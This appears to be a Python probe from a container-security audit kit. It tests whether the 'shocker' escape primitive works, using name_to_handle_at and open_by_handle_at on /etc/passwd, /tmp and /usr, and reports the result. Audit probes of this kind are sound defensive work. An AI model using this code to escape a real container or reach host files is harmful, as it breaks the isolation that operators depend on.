"""Opens a file by its handle, past every mount: the way out of early Docker ("shocker")."""

import ctypes
import os

from pacabench.audit.attacks.kit import Found, Given, absent, found, missing, syscall

_HERE = -100
_HANDLE_BYTES = 128


def attack(_: Given) -> Found:
    """See above."""
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(8 + _HANDLE_BYTES)
    ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint32))[0] = _HANDLE_BYTES
    mount = ctypes.c_int()
    seen = {}
    for path in (b"/etc/passwd", b"/tmp", b"/usr"):
        if libc.name_to_handle_at(_HERE, path, handle, ctypes.byref(mount), 0) != 0:
            seen[path.decode()] = os.strerror(ctypes.get_errno())
            continue
        place = os.open(path, os.O_RDONLY)
        seen[path.decode()] = syscall("open_by_handle_at", place, handle, os.O_RDONLY)[1]
        os.close(place)
    if all(absent(result) for result in seen.values()):
        return missing("no file system here has handles", opened=seen)
    return found("done" in seen.values(), opened=seen)
